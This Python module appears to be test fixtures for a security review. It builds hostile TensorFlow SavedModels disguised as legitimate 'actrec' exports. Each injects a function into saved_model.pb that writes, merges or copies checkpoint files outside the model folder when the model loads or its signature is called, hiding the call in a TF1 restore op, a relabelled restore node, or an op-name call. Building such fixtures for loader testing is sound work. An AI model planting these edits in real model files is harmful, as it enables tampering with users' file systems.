"""Hostile SavedModels dressed as actrec exports, built from a real export's saved_model.pb
(issue 65's review): each keeps the export's actrec.json, recipe and variables, and its
saved_model.pb is edited so that TensorFlow's loader, or a call of its signature, runs a
function that writes or moves checkpoint files outside the folder.

    tf1_saver(...)        no object graph (TF1, loaded by `load_v1_in_v2`), the saver's
                          restore op calls the hostile function
    relabelled(...)       TF2: the signature's wrapper calls the hostile function; the graph
                          node that calls the wrapper is deleted and a func attribute naming
                          the wrapper is added to the saver's restore node
    op_name_call(...)     TF2: the wrapper calls the hostile function by op name
                          (`node.op == name`, no call attribute)
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

HOSTILE_FUNCTION = "hostile_files"


def save_to(target: Path) -> Callable[[], None]:
    """A body that writes a checkpoint (TARGET.index, TARGET.data-*) at `target`."""
    import tensorflow as tf

    def body():
        tf.raw_ops.SaveV2(
            prefix=str(target), tensor_names=["x"], shape_and_slices=[""], tensors=[[1.0]]
        )

    return body


def merge_into(sources: list[Path], target: Path) -> Callable[[], None]:
    """A body that moves the checkpoints at `sources` to `target` (MergeV2Checkpoints)."""
    import tensorflow as tf

    def body():
        tf.raw_ops.MergeV2Checkpoints(
            checkpoint_prefixes=[str(source) for source in sources],
            destination_prefix=str(target),
        )

    return body


def copy_checkpoint(source: Path, key: str, target: Path) -> Callable[[], None]:
    """A body that reads `key` of the checkpoint at `source` and saves it at `target`."""
    import tensorflow as tf

    def body():
        (value,) = tf.raw_ops.RestoreV2(
            prefix=str(source), tensor_names=[key], shape_and_slices=[""], dtypes=[tf.float32]
        )
        tf.raw_ops.SaveV2(
            prefix=str(target), tensor_names=[key], shape_and_slices=[""], tensors=[value]
        )

    return body


def _function_def(body: Callable[[], None]):
    import tensorflow as tf
    from tensorflow.core.framework import function_pb2

    concrete = tf.function(body, autograph=False).get_concrete_function()
    function = function_pb2.FunctionDef()
    function.CopyFrom(concrete.function_def)
    function.signature.name = HOSTILE_FUNCTION
    for node in function.node_def:  # a function without outputs runs its control outputs
        if node.op in ("SaveV2", "MergeV2Checkpoints"):
            function.signature.control_output.append(node.name)
            function.control_ret[node.name] = node.name
    return function


def _call_node(name: str, by_op_name: bool = False):
    """A NodeDef calling the hostile function: through a StatefulPartitionedCall's `f`, or
    with the function's name as its op."""
    from tensorflow.core.framework import attr_value_pb2, node_def_pb2

    if by_op_name:
        return node_def_pb2.NodeDef(name=name, op=HOSTILE_FUNCTION)
    node = node_def_pb2.NodeDef(name=name, op="StatefulPartitionedCall")
    node.attr["f"].CopyFrom(attr_value_pb2.AttrValue(func={"name": HOSTILE_FUNCTION}))
    node.attr["Tin"].CopyFrom(attr_value_pb2.AttrValue(list={}))
    node.attr["Tout"].CopyFrom(attr_value_pb2.AttrValue(list={}))
    return node


def _edited(source: Path, folder: Path, edit) -> Path:
    """A copy of the export `source` at `folder` whose saved_model.pb is edit(meta_graph)."""
    from tensorflow.core.protobuf import saved_model_pb2

    shutil.copytree(source, folder)
    saved = saved_model_pb2.SavedModel()
    saved.ParseFromString((folder / "saved_model.pb").read_bytes())
    edit(saved.meta_graphs[0])
    (folder / "saved_model.pb").write_bytes(saved.SerializeToString())
    return folder


def _signature_wrapper(meta_graph) -> str:
    (name,) = [
        node.bare_concrete_function.concrete_function_name
        for node in meta_graph.object_graph_def.nodes
        if "signature_wrapper" in node.bare_concrete_function.concrete_function_name
    ]
    return name


def tf1_saver(source: Path, folder: Path, body: Callable[[], None]) -> Path:
    """`source` with no object graph and a restore op that calls `body`."""

    def edit(meta_graph):
        meta_graph.ClearField("object_graph_def")
        meta_graph.graph_def.library.function.append(_function_def(body))
        meta_graph.graph_def.node.append(_call_node("hostile_restore"))
        meta_graph.saver_def.restore_op_name = "hostile_restore"

    return _edited(source, folder, edit)


def _call_from_wrapper(meta_graph, body, by_op_name: bool) -> str:
    graph = meta_graph.graph_def
    graph.library.function.append(_function_def(body))
    wrapper = _signature_wrapper(meta_graph)
    (function,) = [f for f in graph.library.function if f.signature.name == wrapper]
    function.node_def.append(_call_node("hostile_call", by_op_name))
    function.signature.control_output.append("hostile_call")
    function.control_ret["hostile_call"] = "hostile_call"
    return wrapper


def relabelled(source: Path, folder: Path, body: Callable[[], None]) -> Path:
    """TF2: the wrapper calls `body`; the node that calls the wrapper deleted, and the
    restore node given a func attribute naming the wrapper."""
    from tensorflow.core.framework import attr_value_pb2

    def edit(meta_graph):
        wrapper = _call_from_wrapper(meta_graph, body, by_op_name=False)
        graph = meta_graph.graph_def
        kept = [node for node in graph.node if node.attr["f"].func.name != wrapper]
        del graph.node[:]
        graph.node.extend(kept)
        restore = meta_graph.saver_def.restore_op_name.split(":")[0]
        (node,) = [node for node in graph.node if node.name == restore]
        node.attr["hidden"].CopyFrom(attr_value_pb2.AttrValue(func={"name": wrapper}))

    return _edited(source, folder, edit)


def op_name_call(source: Path, folder: Path, body: Callable[[], None]) -> Path:
    """TF2: the wrapper calls `body` by op name."""
    return _edited(source, folder, lambda meta: _call_from_wrapper(meta, body, True))
